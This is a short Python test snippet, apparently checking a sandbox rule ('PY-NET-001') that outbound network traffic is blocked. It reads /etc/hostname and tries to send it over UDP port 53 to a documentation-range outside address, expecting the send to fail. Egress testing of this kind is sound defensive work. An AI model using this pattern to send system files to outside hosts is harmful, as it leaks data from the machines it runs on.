# rule: PY-NET-001
# attempts: sendto: .*(Network is unreachable|Errno 101)
import socket as so

u = so.socket(so.AF_INET, so.SOCK_DGRAM)
try:
    u.sendto(open("/etc/hostname", "rb").read(), ("198.51.100.7", 53))
    print("sendto: sent")
except OSError as e:
    print("sendto:", e)
